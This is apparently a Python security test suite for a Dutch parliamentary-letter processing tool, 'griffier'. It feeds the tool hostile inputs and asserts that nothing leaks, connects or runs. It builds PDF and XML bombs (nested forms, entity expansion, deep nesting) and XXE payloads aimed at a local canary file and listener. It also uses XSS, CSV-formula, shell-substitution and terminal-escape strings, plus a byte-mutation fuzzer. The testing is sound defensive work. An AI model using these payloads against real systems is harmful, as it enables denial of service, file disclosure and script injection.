# SPDX-License-Identifier: GPL-3.0-or-later
"""R1, R2, R3, R13, R15, R17: files that strangers made."""
import csv
import gzip
import hashlib
import html.parser
import json
import os
import random
import re
import shutil
import socket
import subprocess

from stand import LETTERS, ROOT, Stand, expect

EXPECTED = os.path.join(ROOT, "tools/hostile.tsv")
DEADLINE = 60
"""Seconds that no document may take, however many pages it has."""


class PageChecker(html.parser.HTMLParser):
    """Counts elements and notes whatever could act: scripts, handlers, frames, links that are not to the web or within the page."""

    def __init__(self):
        super().__init__()
        self.count, self.active, self.policy, self.text = 0, [], False, ""

    def handle_starttag(self, tag, attrs):
        self.count += 1
        if tag in ("script", "iframe", "object", "embed", "base", "form", "img", "svg", "link"):
            self.active.append(tag)
        for key, value in attrs:
            value = value or ""
            if key.startswith("on") or key in ("src", "srcset", "style", "srcdoc"):
                self.active.append(f"{tag} {key}")
            if key == "href" and not value.startswith(("http://", "https://", "#")):
                self.active.append(f"{tag} {value}")
            self.policy |= key == "content" and "default-src 'none'" in value

    def handle_data(self, data):
        self.text += data


class Hostile(Stand):
    def mixed(self):
        """A folder of hostile files among ordinary letters, and one of the letters alone."""
        if "mixed" in self.results:
            return self.results["mixed"]
        expect(self.hostile_files and os.path.isdir(self.hostile_files), "no folder of hostile files (--hostile)")
        folder, ordinary = self.folder("mixed", large=True), self.folder("ordinary", large=True)
        for name in sorted(os.listdir(self.hostile_files)):
            if name.endswith((".pdf", ".xml")):
                shutil.copy(f"{self.hostile_files}/{name}", folder)
        for name, content in self.killers().items():
            with open(f"{folder}/{name}", "wb") as file:
                file.write(content)
        for name in sorted(os.listdir(LETTERS)):
            if name.endswith((".pdf", ".xml")):
                # Spread among the others in the order of names.
                spread = hashlib.sha256(name.encode()).hexdigest()[:4] + name
                for target in (folder, ordinary):
                    shutil.copy(f"{LETTERS}/{name}", f"{target}/{spread}")
        self.results["mixed"] = folder, ordinary
        return folder, ordinary

    @staticmethod
    def killers():
        """Small files of our own of the kinds that hang, fill or break a reader: two pages of text with the harm on the second."""
        def pdf(harm, extra=()):
            pages = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>/XObject<</X 8 0 R>>>>/Contents %d 0 R>>"
            first = "BT /F 11 Tf 80 700 Td (Een brief van een bladzijde, geachte voorzitter.) Tj ET"
            objects = [
                "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>", pages % 6, pages % 7,
                "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", first, harm, *extra]
            out, places = "%PDF-1.5\n", []
            for number, body in enumerate(objects, 1):
                places.append(len(out))
                if not body.startswith("<<"):
                    body = f"<</Length {len(body)}>>\nstream\n{body}\nendstream"
                out += f"{number} 0 obj\n{body}\nendobj\n"
            table = "".join(f"{place:010} 00000 n \n" for place in places)
            count = len(objects) + 1
            return (
                f"{out}xref\n0 {count}\n0000000000 65535 f \n{table}trailer\n<</Size {count}/Root 1 0 R>>\n"
                f"startxref\n{len(out)}\n%%EOF\n").encode()

        def form(content, following):
            more = f"/Resources<</XObject<</X {following} 0 R>>>>" if following else ""
            return f"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]{more}/Length {len(content)}>>\nstream\n{content}\nendstream"

        # A form that draws the next one twice, and so on: 2^40 times.
        forms = [form("/X Do /X Do", 8 + level + 1) for level in range(39)] + [form("0 0 1 1 re f", 0)]
        attributes = " ".join(f'a{number}="x"' for number in range(100_000))
        body = "<officiele-publicatie><kamerstuk><p>&x;</p></kamerstuk></officiele-publicatie>"
        bomb = '<!ENTITY % a "aaaaaaaaaa">' + "".join(
            f'<!ENTITY % {chr(98 + i)} "{("%" + chr(97 + i) + ";") * 10}">' for i in range(12)) + "%m;"
        return {
            "own-forms.pdf": pdf("/X Do", forms),
            "own-nesting.pdf": pdf("q " * 300_000 + "BT /F 11 Tf 80 700 Td (Diep.) Tj ET", ["<<>>"]),
            "own-marked.pdf": pdf("/Span BMC " * 300_000 + "BT /F 11 Tf 80 700 Td (Diep.) Tj ET", ["<<>>"]),
            "own-attributes.xml": f"<officiele-publicatie {attributes}/>".encode(),
            "own-parameters.xml": f"<!DOCTYPE a [{bomb}]>{body}".encode(),
            "own-depth.xml": ("<a>" * 500_000).encode()}

    def mixed_run(self, jobs):
        """The output of one run over the mixed folder, its exit code, seconds, and the most memory of the parent."""
        if ("mixed", jobs) not in self.results:
            folder, _ = self.mixed()
            output = self.folder("o", large=True)
            code, samples, _, _ = self.watched(self.command(folder, output, worker="griffier-worker", jobs=jobs))
            expect(code in (0, 1), f"ended with {code}")
            self.results["mixed", jobs] = output, max(memory for memory, _ in samples)
        return self.results["mixed", jobs]

    def R1(self):
        """hostile files among ordinary letters, 2 workers
        Target: every file accounted for; none past its deadline by more than 1 s; parent < 300 MB; run < 5 min; no canary byte"""
        folder, _ = self.mixed()
        output, memory = self.mixed_run(2)
        files, report = self.close(output), self.report(output)
        expect(files["seen"] == len(os.listdir(folder)), "not every file was seen")
        expect(memory < 300 << 20, f"the parent took {memory >> 20} MB")
        expect(report["seconds"] < 300, f"took {report['seconds']:.0f} s")
        expect(report["overrunSeconds"] < 1, f"a document was {report['overrunSeconds']} s past its deadline")
        expect(report["slowestSeconds"] < DEADLINE + 1, f"a try took {report['slowestSeconds']} s")
        for name, table in self.tables(output).items():
            expect(b"root:x:0" not in table, f"a system file stands in {name}")
        counts = ", ".join(f"{n} {key}" for key, n in files.items() if n)
        own = sum(name.startswith("own-") for name in os.listdir(folder))
        return (
            f"{len(os.listdir(self.hostile_files)) - 1} hostile files and {own} of ours among {len(os.listdir(LETTERS))} letters: {counts}; "
            f"{report['seconds']:.0f} s, parent {memory >> 20} MB, longest try {report['slowestSeconds']:.1f} s, "
            f"{1000 * report['overrunSeconds']:.0f} ms past its deadline at most")

    def R2(self):
        """the same files three times, with 1, 2 and 3 workers
        Target: byte-identical; every verdict as in tools/hostile.tsv"""
        outputs = [self.mixed_run(jobs)[0] for jobs in (1, 2, 3)]
        seen = {hashlib.sha256(repr(self.tables(output)).encode()).hexdigest() for output in outputs}
        expect(len(seen) == 1, f"{len(seen)} different results")
        with open(EXPECTED, encoding="utf-8") as file:
            expected = dict(line.rstrip("\n").split("\t", 1) for line in file if not line.startswith("#"))
        found = self.verdicts(outputs[0])
        wrong = [f"{name}: {found.get(name)}, not {verdict}" for name, verdict in expected.items() if found.get(name) != verdict]
        expect(not wrong, f"{len(wrong)} of {len(expected)} verdicts differ: {'; '.join(wrong[:5])}")
        expect(len(found) == len(expected), f"{len(found)} verdicts, {len(expected)} expected")
        return f"3 runs identical; {len(expected)} verdicts as expected"

    def verdicts(self, output):
        """What became of each hostile file: its outcome and the codes of its warnings, or why it gave no record."""
        found = {}
        with open(f"{output}/letters.jsonl", encoding="utf-8") as file:
            for line in file:
                record = json.loads(line)
                codes = sorted({warning["code"] for warning in record["warnings"]})
                partial = {"page-lost", "page-unreadable"} & set(codes)
                found[record["source"]["path"]] = f"{'partial' if partial else 'ok'}\t{' '.join(codes)}"
        with open(f"{output}/failed.jsonl", encoding="utf-8") as file:
            for line in file:
                row = json.loads(line)
                found[row["path"]] = f"failed\t{row['code']}" + (f" {row['page']}" if "page" in row else "")
        own = self.killers()
        return {
            name: verdict for name, verdict in found.items() if name in own or os.path.exists(f"{self.hostile_files}/{name}")}

    def expectations(self):
        """Writes tools/hostile.tsv anew: to be read before it is believed."""
        output, _ = self.mixed_run(1)
        with open(EXPECTED, "w", encoding="utf-8") as file:
            file.write("# file\toutcome\tcodes of warnings, or reason and page: written by tools/soak --expect\n")
            for name, verdict in sorted(self.verdicts(output).items()):
                file.write(f"{name}\t{verdict}\n")

    def R3(self):
        """ordinary letters among hostile files and alone
        Target: records byte-identical"""
        _, ordinary = self.mixed()
        alone = self.folder("o", large=True)
        self.run(ordinary, alone, worker="griffier-worker", jobs=2)
        lines = set(self.tables(self.mixed_run(2)[0])["letters.jsonl"].splitlines())
        own = self.tables(alone)["letters.jsonl"].splitlines()
        expect(len(own) == len(os.listdir(ordinary)), f"{len(own)} records of {len(os.listdir(ordinary))} letters")
        different = sum(line not in lines for line in own)
        expect(different == 0, f"{different} records differ")
        return f"{len(own)} records identical"

    def R13(self):
        """XXE: files, DTDs, parameter entities, XInclude, stylesheets, schemas, each plain and gzipped, with a listener
        Target: 0 canary bytes in any output or log, 0 connections, 0 files opened outside (strace)"""
        folder, output, secret = self.folder("in"), self.folder("o"), f"canary{random.Random().getrandbits(64):x}"
        canary = f"{self.scratch}/canary"
        with open(canary, "w") as file:
            file.write(secret)
        listener, calls = socket.create_server(("127.0.0.1", 0)), []
        listener.settimeout(0.2)
        port = listener.getsockname()[1]
        body = "<officiele-publicatie><kamerstuk><p>&x;</p></kamerstuk></officiele-publicatie>"
        attacks = [
            f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}">]>{body}',
            f'<!DOCTYPE a SYSTEM "file://{canary}">{body}',
            f'<!DOCTYPE a [<!ENTITY % p SYSTEM "file://{canary}"> %p;]>{body}',
            f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{canary}" parse="text"/></a>',
            f'<?xml-stylesheet href="file://{canary}"?><a/>',
            '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
                f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(10)) + f"]>{body}"]
        net = f"http://127.0.0.1:{port}/{secret}"
        attacks += [attack.replace(f"file://{canary}", net) for attack in attacks if canary in attack]
        attacks.append(f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{net}"/>')
        for number, attack in enumerate(attacks):
            with open(f"{folder}/{number}.xml", "w") as file:
                file.write('<?xml version="1.0"?>' + attack)
            with open(f"{folder}/{number}-gz.xml", "wb") as file:
                file.write(gzip.compress(('<?xml version="1.0"?>' + attack).encode()))
        trace = f"{self.scratch}/trace13"
        done = subprocess.run(
            self.traced(self.command(folder, output, worker="griffier-worker"), trace), capture_output=True, timeout=300)
        expect(done.returncode in (0, 1), f"ended with {done.returncode}")
        self.close(output)
        try:
            calls.append(listener.accept())
        except TimeoutError:
            pass
        listener.close()
        expect(not calls, "somebody called the listener")
        opened, strangers = self.opened(trace, folder, output)
        expect(not strangers, f"opened: {sorted(strangers)[:5]}")
        with open(trace, encoding="utf-8", errors="replace") as file:
            expect(not any("AF_INET" in line for line in file), "a connection was tried")
        for top, _, names in os.walk(output):
            for name in names:
                with open(f"{top}/{name}", "rb") as file:
                    expect(secret.encode() not in file.read(), f"the canary is in {name}")
        expect(secret.encode() not in done.stdout + done.stderr, "the canary is in the log")
        return f"{len(attacks)} attacks, twice each: 0 canary bytes, 0 connections, {opened} files opened, none foreign"

    def traced(self, command, log):
        """The command under strace, which writes down every file that is opened and every connection."""
        expect(shutil.which("strace"), "strace is not on this machine")
        return ["strace", "-f", "-y", "--seccomp-bpf", "-e", "trace=open,openat,openat2,creat,connect,sendto", "-o", log] + command

    def opened(self, log, *allowed):
        """How many files were opened, and those that lie neither in `allowed` nor are the system's."""
        system = ("/usr/", "/lib", "/proc/", "/sys/", "/dev/null", "/dev/urandom", self.bin, "/opt/")
        single = {"/etc/ld.so.cache", "/etc/localtime", "/etc/nsswitch.conf", self.pipeline}
        count, strangers = 0, set()
        with open(log, encoding="utf-8", errors="replace") as file:
            for line in file:
                found = re.search(r" = \d+<(.*)>$", line.rstrip())
                if not found or "connect(" in line or "sendto(" in line:
                    continue
                path = found.group(1)
                count += 1
                if not path.startswith(system + allowed + ("/etc/fonts", "/var/cache/fontconfig")) and path not in single:
                    strangers.add(path)
        return count, strangers

    def R15(self):
        """payloads in names, texts, titles, offices and promises, through every format
        Target: JSONL lines = records; no byte below 0x20 but line feeds in logs; no script or handler in the page; no formula in CSV"""
        folder, output = self.folder("in"), self.folder("o")
        payloads = ["<script>alert(1)</script>", "=1+1", "a\u2028b", "\u202etxt", "\x1b]0;x\x07", "x\ty", "'\"`$(id)", "a\nb"]
        for number, payload in enumerate(payloads):
            with open(f"{folder}/{number}.pdf", "w") as file:
                file.write("fault:none" if number == 0 else "letter")
            name = payload.replace("/", "_")
            with open(f"{folder}/{name}.pdf", "w") as file:
                file.write(f"fault:{number}")
        logs = 0
        for form in ("json", "text"):
            other = self.folder("o")
            log = self.run(folder, other, "--log-format", form, allowed=(1,)).stderr.decode()
            expect(not any(ord(c) < 0x20 and c != "\n" or c in "\x7f\u2028\u202e" for c in log), f"the {form} log acts on a terminal")
            logs += len(log.splitlines())
            if form == "json":
                for line in log.splitlines():
                    json.loads(line)
                output = other
        for name, table in self.tables(output).items():
            text = table.decode()
            expect(len(text.splitlines()) == text.count("\n"), f"{name}: a line breaks for naive readers")
        page, cells = self.injected()
        return (
            f"{logs} log lines clean; lines = records in every table; "
            f"page of {page} elements without script or handler; {cells} CSV cells, none a formula")

    def injected(self):
        """Letters whose title, office, name and promises are payloads, as page and as tables for a spreadsheet."""
        folder, output, to = self.folder("in"), self.folder("o"), self.folder("csv")
        with open(f"{LETTERS}/twin-letter.xml", encoding="utf-8") as file:
            model = file.read()
        payloads = [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "=HYPERLINK(\"http://x\")", "+1+1",
            "-2+3", "@SUM(1)", "javascript:alert(1)", "\t=1", "]]>", "'\"`$(id)", "{{7*7}}", "\u202etxt\u2028"]
        for number, payload in enumerate(payloads):
            safe = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            text = model.replace("Een hoofdlijnenbrief", f"{safe} Een brief over {safe}").replace("per brief", f"per {safe} brief")
            text = text.replace("Structuur van de uitvoering werk en inkomen", safe).replace(
                "De minister van Sociale Zaken en Werkgelegenheid,", f"{safe} De minister van {safe},").replace("G.H.J.", safe)
            with open(f"{folder}/{number}{payload.replace('/', '_')}.xml", "w", encoding="utf-8") as file:
                file.write(text)
        self.run(folder, output, worker="griffier-worker")
        page = f"{self.scratch}/report.html"
        for command in (["export", "csv", "--output", output, "--to", to], ["report", "--output", output, "--to", page]):
            done = subprocess.run([f"{self.bin}/griffier"] + command, capture_output=True, timeout=60)
            expect(done.returncode == 0, f"{command[0]} ended with {done.returncode}: {done.stderr[-200:]}")
        checker = PageChecker()
        with open(page, encoding="utf-8") as file:
            checker.feed(file.read())
        expect(not checker.active, f"the page holds {checker.active[:3]}")
        expect(checker.policy, "the page has no content security policy")
        expect("alert(1)" in checker.text, "no payload reached the page")
        cells, payload = 0, 0
        for top, _, names in os.walk(to):
            for name in names:
                if name.endswith(".csv"):
                    with open(f"{top}/{name}", newline="", encoding="utf-8-sig") as file:
                        for row in csv.reader(file):
                            cells += len(row)
                            payload += any("SUM(1)" in cell for cell in row)
                            expect(not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), f"{name}: {row}")
        expect(payload, "no payload reached a cell")
        return checker.count, cells

    def R17(self):
        """2,450 mutants of ordinary letters by seven kinds of change, of a fixed seed
        Target: every one accounted for, 0 deaths of the parent"""
        rng, folder, output = random.Random(17), self.folder("in", large=True), self.folder("o", large=True)
        seeds = [name for name in sorted(os.listdir(LETTERS)) if name.endswith((".pdf", ".xml"))]
        count = self.sample(2450, 100)
        for number in range(count):
            name = seeds[number % len(seeds)]
            with open(f"{LETTERS}/{name}", "rb") as file:
                content = bytearray(file.read())
            self.mutate(content, (number // len(seeds) + number) % 7, rng)
            with open(f"{folder}/{number:04}-{name}", "wb") as file:
                file.write(content)
        self.run(folder, output, worker="griffier-worker", jobs=2, allowed=(0, 1), timeout=3600)
        files = self.close(output)
        expect(files["seen"] == count, f"{files}")
        return ", ".join(f"{n} {key}" for key, n in files.items() if n)

    @staticmethod
    def mutate(content, kind, rng):
        start = rng.randrange(len(content))
        if kind == 0:
            del content[max(1, start):]
        elif kind == 1:
            for _ in range(20):
                content[rng.randrange(len(content))] = rng.randrange(256)
        elif kind == 2:
            del content[start:start + rng.randrange(1, 2000)]
        elif kind == 3:
            content[start:start] = content[start:start + 500] * 5
        elif kind == 4:
            content[start:start + 64] = bytes(rng.randrange(256) for _ in range(64))
        elif kind == 5:
            for _ in range(20):
                content[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
        else:
            # Numbers that are too large, negative or out of order: lengths, offsets, references.
            digits = [at for at, byte in enumerate(content) if 0x30 <= byte <= 0x39]
            for at in rng.sample(digits, min(20, len(digits))):
                content[at:at + 1] = rng.choice([b"9", b"0", b"-1", b"99999999999", b"2147483648"])[:1 + rng.randrange(11)]
        if not content:
            content += b"%"
